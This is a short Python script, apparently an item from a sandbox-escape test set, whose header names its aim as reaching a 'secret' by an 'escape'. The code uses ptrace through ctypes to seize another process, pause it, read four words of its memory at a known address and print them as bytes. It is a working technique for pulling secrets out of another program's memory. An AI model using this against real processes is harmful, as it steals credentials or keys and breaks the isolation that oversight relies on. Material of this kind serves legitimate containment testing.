# story: A debugger's way into another process.
# aim: secret, escape
# stock: secret
# process: yes

# %% last
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
SEIZE, INTERRUPT, PEEK, DETACH = 0x4206, 0x4207, 2, 17
if libc.ptrace(SEIZE, known.pid, None, None) == 0:
    libc.ptrace(INTERRUPT, known.pid, None, None)
    os.waitpid(known.pid, 0x40000000)
    words = [libc.ptrace(PEEK, known.pid, known.address + 8 * i, None) for i in range(4)]
    print(b"".join((word & (2**64 - 1)).to_bytes(8, "little") for word in words))
    libc.ptrace(DETACH, known.pid, None, None)
